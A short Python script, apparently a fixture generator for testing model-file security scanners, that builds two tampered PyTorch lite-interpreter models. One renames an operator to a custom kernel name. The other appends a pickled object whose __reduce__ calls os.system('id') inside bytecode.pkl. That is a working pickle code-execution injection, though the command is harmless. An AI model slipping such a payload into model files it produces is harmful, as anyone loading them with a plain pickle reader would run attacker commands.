"""Writes malicious variants of ../torchscript/benign_lite.ptl (made by make_torchscript.py
with torch's own _save_for_lite_interpreter) by editing its bytecode.pkl,
which the lite interpreter runs instead of code/:

- malicious_lite_custom_op.ptl: the operator table names myns::relu where
  torch wrote aten::relu. _load_for_lite_interpreter then needs a native
  kernel registered under that name (it fails with "Following ops cannot
  be found" without one); code/ does not show the operator.
- malicious_lite_global.ptl: bytecode.pkl also imports os.system through a
  REDUCE. torch's mobile unpickler refuses unknown globals, but the member
  is a pickle any pickle reader would run.

Run with /usr/bin/python3 from this directory.
"""
import os
import pickle
import zipfile


class Evil:
    def __reduce__(self):
        return (os.system, ("id",))


def edit(src, out, fn):
    with zipfile.ZipFile(src) as zi, zipfile.ZipFile(out, "w") as zo:
        for it in zi.infolist():
            data = zi.read(it.filename)
            if it.filename.endswith("/bytecode.pkl"):
                data = fn(data)
            zo.writestr(it, data)


def custom_op(data):
    old = b"aten::relu"
    if old not in data:
        raise SystemExit("aten::relu not in bytecode.pkl")
    return data.replace(old, b"myns::relu")


def with_global(data):
    return pickle.dumps(pickle.loads(data) + (Evil(),), protocol=2)


def main():
    os.chdir(os.path.dirname(os.path.abspath(__file__)))
    edit("../torchscript/benign_lite.ptl", "malicious_lite_custom_op.ptl", custom_op)
    edit("../torchscript/benign_lite.ptl", "malicious_lite_global.ptl", with_global)


if __name__ == "__main__":
    main()
